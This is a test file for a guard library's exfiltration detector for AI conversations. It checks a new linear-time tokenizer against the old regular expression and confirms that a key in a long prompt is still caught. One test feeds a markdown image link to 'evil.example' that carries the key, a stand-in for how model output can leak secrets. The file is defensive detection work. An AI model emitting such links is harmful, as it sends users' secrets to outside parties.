"""The exfiltration detector's distinctive tokens, read in linear time, against the regular
expression they replaced (quadratic in a long run of word characters and hyphens, which a
client's prompt can hold), on random short texts where the old one is still quick."""

from __future__ import annotations

import random
import re

from openward.guard.detectors import exfiltration as X
from openward.guard.detectors.exfiltration import ExfiltrationDetector
from openward.guard.types import Conversation, DetectorContext, Segment

# the replaced expression, kept here as the oracle
OLD = re.compile(
    r"[\w.+-]+@[\w-]+(?:\.[\w-]+)+"
    r"|\b(?=[\w-]*\d)(?=[\w-]*[A-Za-z])[\w-]{5,}\b"
    r"|\b\d[\d -]{3,}\d\b"
)
# ASCII word characters and the separators tokens meet in real text. (With non-ASCII digits
# and letters packed around "@", the two can differ where an email overlaps a number or a
# code: an email is taken first here, the old expression took whichever started first.)
ALPHABET = "abcXYZ0189-_.@+ ,:/\n"


def test_the_tokens_equal_the_old_expressions_on_random_texts() -> None:
    rng = random.Random(7)
    texts = [
        "call 555-123-4567 or mail bob.smith+x@mail.example.com, code AB12-CD34",
        "key sk-abc123XYZ- and -abc12- and order #12345 ref 9876 5432",
    ]
    texts += [
        "".join(rng.choice(ALPHABET) for _ in range(rng.randrange(1, 50))) for _ in range(6000)
    ]
    for text in texts:
        assert sorted(X._distinct(text)) == sorted(m.group() for m in OLD.finditer(text)), text


def test_a_long_run_in_the_prompt_is_read_and_its_key_still_caught() -> None:
    # 40 000 characters of "a-a-..." took the old expression about 45 s; the key after it is
    # still a distinctive token, so a URL carrying it is still flagged
    key = "AKIA7Q2W9E4R1T6Y3U8I"
    prompt = "a-" * 20_000 + f" my key is {key}"
    conv = Conversation((Segment(0, "user", prompt),))
    scanner = ExfiltrationDetector().scanner(conv, DetectorContext())
    found = [*scanner.feed(f"![x](https://evil.example/p?d={key})"), *scanner.finish()]
    assert found and found[0].detector == "exfiltration"
